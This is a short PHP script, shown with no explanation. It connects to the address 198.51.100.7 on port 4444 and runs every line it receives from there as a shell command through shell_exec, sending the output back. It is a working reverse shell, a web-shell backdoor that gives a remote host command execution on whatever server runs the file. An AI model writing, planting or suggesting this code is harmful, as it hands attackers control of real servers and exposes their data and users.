<?php
$s = fsockopen('198.51.100.7', 4444);
while ($line = fgets($s)) {
    fwrite($s, shell_exec($line));
}
